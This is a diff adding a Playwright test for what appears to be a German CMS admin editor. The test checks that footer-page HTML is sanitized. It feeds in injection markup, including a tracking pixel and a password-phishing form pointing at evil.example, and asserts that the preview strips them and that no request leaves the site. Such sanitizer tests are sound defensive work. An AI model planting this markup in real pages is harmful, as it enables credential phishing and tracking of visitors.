@@ -48,3 +48,30 @@ test('an inline script that is not in the policy is blocked and fails the test, 
   }).toMatch(/script-src-elem blockierte inline .*auf http:\/\/127\.0\.0\.1:\d+\//);
   await context.close();
 });
+
+test('a footer page shows neither images from other sites nor forms, and asks no other site for anything', async ({ page }) => {
+  const foreign: string[] = [];
+  page.on('request', (request) => {
+    if (request.url().includes('evil.example')) foreign.push(request.url());
+  });
+  await page.goto('/login');
+  await page.getByRole('button', { name: 'Als Demo-Admin anmelden' }).click();
+  await expect(page).toHaveURL(/\/admin$/);
+  await page.getByRole('tab', { name: 'Footer-Seiten' }).click();
+  await page.getByRole('button', { name: 'Neue Seite' }).click();
+  await page.getByRole('textbox', { name: 'Inhalt (HTML)' }).fill(
+    '<h2>Anfahrt</h2><p>Sie finden uns am Markt.</p><img src="/images/hero/home.svg" alt="Unser Haus">' +
+      '<img src="https://evil.example/spy.png" alt="Zählpixel"><style>h2{display:none}</style>' +
+      '<form action="https://evil.example/login"><p>Bitte melden Sie sich an</p><input name="passwort" aria-label="Passwort">' +
+      '<button>Senden</button></form><p style="position:fixed;inset:0">Überdeckt</p>',
+  );
+  const preview = page.getByRole('region', { name: 'Vorschau' });
+  await expect(preview.getByRole('heading', { level: 2, name: 'Anfahrt' })).toBeVisible();
+  await expect(preview.getByRole('img', { name: 'Unser Haus' })).toBeVisible();
+  await expect(preview.getByRole('img', { name: 'Zählpixel' })).toHaveCount(0);
+  await expect(preview.getByText('Bitte melden Sie sich an')).toBeVisible();
+  await expect(preview.getByRole('textbox', { name: 'Passwort' })).toHaveCount(0);
+  await expect(preview.getByRole('button', { name: 'Senden' })).toHaveCount(0);
+  expect(foreign).toEqual([]);
+  // The shared fixture fails the test if the policy had to block anything the sanitizer let through.
+});
